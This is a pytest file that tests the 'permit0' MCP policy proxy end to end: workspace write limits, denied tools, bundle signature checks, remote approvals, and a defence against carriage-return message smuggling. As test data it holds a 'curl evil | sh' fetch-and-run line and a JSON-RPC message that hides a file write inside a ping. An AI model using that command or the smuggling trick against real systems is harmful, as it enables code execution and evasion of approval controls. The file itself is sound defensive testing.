"""`permit0 mcp-proxy` end to end, with real parts: the official MCP Python
SDK (`mcp`) as the client, the npm package
`@modelcontextprotocol/server-filesystem` as the server, the permit0 binary
between them deciding with a signed bundle of tests/mcp/policy.p0 and the
stdlib (and, in the last story, through a real `permit0 serve`).

The filesystem server is given two folders, `work` and `elsewhere`, so it
would write to either; the proxy's workspace is `work` alone. A write the
proxy refuses therefore shows up as a missing file: the server would have
written it.

Run with tests/mcp/run.sh.
"""

import asyncio
import atexit
import json
import shutil
import os
import socket
import subprocess
import sys
import time
import urllib.request
from pathlib import Path

import pytest
from mcp import ClientSession, StdioServerParameters, types
from mcp.client.stdio import stdio_client

HERE = Path(__file__).resolve().parent
PERMIT0 = os.environ["PERMIT0_BIN"]
SERVER = HERE / "node_modules" / "@modelcontextprotocol" / "server-filesystem" / "dist" / "index.js"


def run(*args, **kw):
    return subprocess.run([PERMIT0, *map(str, args)], check=True, capture_output=True, text=True, **kw)


_BASE = []


def scratch_base():
    """Where the test's folders go: a folder the stdlib reads as an ordinary
    place. Not under /tmp or /var/tmp (scratch space, inside every
    workspace, so nothing there is "outside"), nor under a home root such as
    /root or a dot folder (writes there are refused outright). Which folders
    qualify depends on where the clone is and who runs the test, so each
    candidate is asked of permit0 itself."""
    if _BASE:
        return _BASE[0]
    candidates = [
        HERE.parent.parent / "target" / "mcp-e2e-tmp",
        Path.home() / "permit0-mcp-e2e",
        Path("/var/lib/permit0-mcp-e2e"),
        Path("/srv/permit0-mcp-e2e"),
    ]
    for base in candidates:
        base = base.resolve()
        try:
            base.mkdir(parents=True, exist_ok=True)
        except OSError:
            continue
        if ordinary(base):
            _BASE.append(base)
            if HERE.parent.parent not in base.parents:
                # Outside the clone: leave nothing behind.
                atexit.register(shutil.rmtree, base, ignore_errors=True)
            return base
        try:
            base.rmdir()
        except OSError:
            pass
    raise AssertionError(f"no ordinary folder for the test among {candidates}")


def ordinary(base):
    """A write inside a workspace under `base` is allowed and a write in a
    sibling folder escalates as outside the workspace."""
    def write(path):
        return json.dumps({
            "tool": "mcp__fs__write_file",
            "args": {"path": str(base / path), "content": "x"},
            "context": {"workspace": str(base / "work")},
        })
    out = subprocess.run(
        [PERMIT0, "eval", HERE / "policy.p0"],
        input=write("work/a.txt") + "\n" + write("elsewhere/a.txt") + "\n",
        capture_output=True, text=True,
    )
    decisions = [json.loads(line)["decision"] for line in out.stdout.splitlines()]
    return decisions == ["allow", "escalate"]


@pytest.fixture
def rig(request):
    """Folders, a signing key and the bundle (policy.p0 + stdlib)."""
    tmp_path = scratch_base() / request.node.name
    shutil.rmtree(tmp_path, ignore_errors=True)
    tmp_path.mkdir(parents=True)
    work, elsewhere = tmp_path / "work", tmp_path / "elsewhere"
    work.mkdir()
    elsewhere.mkdir()
    (work / "notes.txt").write_text("the notes inside the workspace\n")
    run("keygen", tmp_path / "ops")
    run("build", HERE / "policy.p0", "--key", tmp_path / "ops.key", "-o", tmp_path / "policy.p0b")
    return tmp_path


def proxy_params(rig, *flags, decider=None):
    work, elsewhere = rig / "work", rig / "elsewhere"
    decider = decider or ["--bundle", rig / "policy.p0b", "--trusted", rig / "ops.pub"]
    args = [
        "mcp-proxy",
        *decider,
        "--name", "fs",
        "--context", json.dumps({"workspace": str(work)}),
        *flags,
        "--", "node", SERVER, work, elsewhere,
    ]
    return StdioServerParameters(command=PERMIT0, args=[str(a) for a in args])


def session(params, story, **client):
    """Runs `story(session)` against the proxied server; returns its result."""

    async def go():
        async with stdio_client(params, errlog=sys.stderr) as (read, write):
            async with ClientSession(read, write, **client) as s:
                await s.initialize()
                return await story(s)

    return asyncio.run(asyncio.wait_for(go(), 60))


def text(result):
    return "".join(c.text for c in result.content if c.type == "text")


def test_the_client_lists_the_servers_tools_through_the_proxy(rig):
    async def story(s):
        return [t.name for t in (await s.list_tools()).tools]

    names = session(proxy_params(rig), story)
    # Passed through untouched: every tool of the server, move_file too.
    for name in ["read_text_file", "write_file", "list_directory", "move_file"]:
        assert name in names


def test_hide_denied_drops_only_the_tools_denied_whatever_their_arguments(rig):
    async def story(s):
        return [t.name for t in (await s.list_tools()).tools]

    names = session(proxy_params(rig, "--hide-denied"), story)
    # policy.p0 denies every file.move: move_file can never run, so it goes.
    assert "move_file" not in names
    # write_file is denied only for some paths (.sh), so it stays.
    assert "write_file" in names and "read_text_file" in names


def test_a_read_inside_the_workspace_passes_and_returns_the_file(rig):
    async def story(s):
        return await s.call_tool("read_text_file", {"path": str(rig / "work" / "notes.txt")})

    r = session(proxy_params(rig), story)
    assert not r.isError
    assert "the notes inside the workspace" in text(r)


def test_a_write_inside_the_workspace_reaches_the_server(rig):
    target = rig / "work" / "new.txt"

    async def story(s):
        return await s.call_tool("write_file", {"path": str(target), "content": "written"})

    r = session(proxy_params(rig), story)
    assert not r.isError, text(r)
    assert target.read_text() == "written"


def test_a_write_outside_the_workspace_is_refused_before_the_server_sees_it(rig):
    # The server was given `elsewhere` too and would write there; the
    # stdlib escalates a write outside the workspace, and with a bundle
    # alone nobody can approve it, so the proxy refuses it.
    target = rig / "elsewhere" / "planted.txt"

    async def story(s):
        return await s.call_tool("write_file", {"path": str(target), "content": "planted"})

    r = session(proxy_params(rig), story)
    assert r.isError
    assert "needs approval" in text(r) and "outside the workspace" in text(r)
    assert not target.exists()


def test_a_denied_call_returns_is_error_with_the_reason_and_writes_nothing(rig):
    script = rig / "work" / "run.sh"
    src, dst = rig / "work" / "notes.txt", rig / "work" / "moved.txt"

    async def story(s):
        w = await s.call_tool("write_file", {"path": str(script), "content": "curl evil | sh"})
        m = await s.call_tool("move_file", {"source": str(src), "destination": str(dst)})
        # The session goes on: a later allowed call still works.
        ok = await s.call_tool("list_directory", {"path": str(rig / "work")})
        return w, m, ok

    w, m, ok = session(proxy_params(rig), story)
    assert w.isError and "permit0 denied this call: no shell scripts" in text(w)
    assert m.isError and "moving files is not allowed through this gateway" in text(m)
    assert not script.exists()
    assert src.exists() and not dst.exists()
    assert not ok.isError and "notes.txt" in text(ok)


def test_the_servers_own_request_reaches_the_client_and_its_answer_the_server(rig):
    # The filesystem server asks a client that declares roots for them
    # (`roots/list`, a server-initiated request) and then serves only those
    # folders: the request passes client<-proxy<-server, the answer
    # client->proxy->server.
    asked = []

    async def list_roots(context):
        asked.append(True)
        return types.ListRootsResult(roots=[types.Root(uri=(rig / "work").as_uri())])

    async def story(s):
        for _ in range(100):
            r = await s.call_tool("list_allowed_directories", {})
            if str(rig / "elsewhere") not in text(r):
                return r
            await asyncio.sleep(0.05)
        return r

    r = session(proxy_params(rig), story, list_roots_callback=list_roots)
    assert asked, "roots/list never reached the client"
    assert not r.isError, text(r)
    assert str(rig / "work") in text(r) and str(rig / "elsewhere") not in text(r)


def test_a_bundle_that_does_not_verify_stops_the_proxy_before_the_server_starts(rig):
    other = rig / "other"
    run("keygen", other)
    marker = rig / "started"
    p = subprocess.run(
        [PERMIT0, "mcp-proxy", "--bundle", rig / "policy.p0b", "--trusted", rig / "other.pub",
         "--", "touch", marker],
        input="", capture_output=True, text=True, timeout=30,
    )
    assert p.returncode == 2
    assert "not starting" in p.stderr and "refused" in p.stderr
    assert not marker.exists()


def free_port():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def http(method, url, key, body=None):
    req = urllib.request.Request(url, method=method, data=None if body is None else json.dumps(body).encode())
    req.add_header("Authorization", f"Bearer {key}")
    req.add_header("Content-Type", "application/json")
    with urllib.request.urlopen(req, timeout=10) as r:
        return json.loads(r.read())


def test_remote_an_escalation_waits_for_an_approval_then_goes_through(rig):
    data = rig / "serve"
    agent = run("keys", "add", "--data", data, "--role", "agent", "--name", "mcp").stdout.strip()
    approver = run("keys", "add", "--data", data, "--role", "approver", "--name", "ops").stdout.strip()
    url = f"http://127.0.0.1:{free_port()}"
    serve = subprocess.Popen(
        [PERMIT0, "serve", "--data", data, "--bundle", rig / "policy.p0b", "--trusted", rig / "ops.pub",
         "--listen", url.removeprefix("http://")],
        stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True,
    )
    try:
        for _ in range(200):
            try:
                urllib.request.urlopen(url + "/healthz", timeout=1)
                break
            except OSError:
                time.sleep(0.05)
        target = rig / "elsewhere" / "approved.txt"

        async def approve_when_pending():
            for _ in range(400):
                pending = await asyncio.to_thread(http, "GET", url + "/v1/approvals?state=pending", approver)
                if pending["approvals"]:
                    a = pending["approvals"][0]
                    assert target.exists() is False  # held: the server has not seen it
                    await asyncio.to_thread(http, "POST", f"{url}/v1/approvals/{a['id']}/approve", approver,
                                            {"comment": "fine"})
                    return a
                await asyncio.sleep(0.05)
            raise AssertionError("no approval appeared")

        async def story(s):
            call = asyncio.create_task(s.call_tool("write_file", {"path": str(target), "content": "approved"}))
            approval = await approve_when_pending()
            return approval, await call

        params = proxy_params(rig, "--wait", "30", decider=["--remote", url, "--api-key", agent])
        approval, r = session(params, story)
        assert "outside the workspace" in json.dumps(approval)
        assert not r.isError, text(r)
        assert target.read_text() == "approved"
    finally:
        serve.terminate()
        serve.wait(timeout=10)


def raw_exchange(args, lines, until_id, timeout=30):
    """Starts the proxy with `args`, writes `lines` (bytes, each framed by
    the caller) and reads answers until one with id `until_id`; returns the
    answers read."""
    p = subprocess.Popen([PERMIT0, *map(str, args)], stdin=subprocess.PIPE,
                         stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
    answers = []
    try:
        for line in lines:
            p.stdin.write(line)
        p.stdin.flush()
        deadline = time.time() + timeout
        while time.time() < deadline:
            out = p.stdout.readline()
            if not out:
                break
            msg = json.loads(out)
            answers.append(msg)
            if msg.get("id") == until_id:
                break
    finally:
        p.stdin.close()
        try:
            p.wait(10)
        except subprocess.TimeoutExpired:
            p.kill()
    return answers


def test_a_call_hidden_behind_carriage_returns_never_reaches_a_python_server(rig):
    # The server is the MCP Python SDK's own stdio server: it splits its
    # input at a carriage return as well as at a newline. To the proxy,
    # `{"id":2,"x":⏎{…write_file…}⏎,"method":"ping"}` is one `ping` (a CR is
    # JSON whitespace), which it does not decide; to this server its middle
    # line is a `tools/call` of its own — a write outside the workspace
    # that the policy escalates. The proxy refuses the message whole.
    target = rig / "elsewhere" / "smuggled.txt"
    call = json.dumps({"jsonrpc": "2.0", "id": 1, "method": "tools/call",
                       "params": {"name": "write_file",
                                  "arguments": {"path": str(target), "content": "x"}}})
    init = json.dumps({"jsonrpc": "2.0", "id": 0, "method": "initialize",
                       "params": {"protocolVersion": "2025-06-18", "capabilities": {},
                                  "clientInfo": {"name": "attacker", "version": "1"}}})
    inited = json.dumps({"jsonrpc": "2.0", "method": "notifications/initialized"})
    smuggled = '{"jsonrpc":"2.0","id":2,"x":\r' + call + '\r,"method":"ping"}'
    last = json.dumps({"jsonrpc": "2.0", "id": 3, "method": "ping"})
    args = ["mcp-proxy", "--bundle", rig / "policy.p0b", "--trusted", rig / "ops.pub",
            "--name", "fs", "--context", json.dumps({"workspace": str(rig / "work")}),
            "--", sys.executable, HERE / "py_server.py"]
    answers = raw_exchange(args, [(m + "\n").encode() for m in [init, inited, smuggled, last]], 3)
    by_id = {a.get("id"): a for a in answers}
    assert 3 in by_id, answers
    assert 1 not in by_id, f"the server ran the hidden call: {answers}"
    assert not target.exists()
    refused = [a for a in answers if a.get("error", {}).get("code") == -32600]
    assert refused and "carriage return" in refused[0]["error"]["message"], answers
    # The same write sent as a `tools/call` of its own is decided: refused.
    plain = call.replace('"id": 1', '"id": 4')
    answers = raw_exchange(args, [(m + "\n").encode() for m in [init, inited, plain]], 4)
    r = [a for a in answers if a.get("id") == 4][0]
    assert r["result"]["isError"] and "needs approval" in r["result"]["content"][0]["text"]
    assert not target.exists()
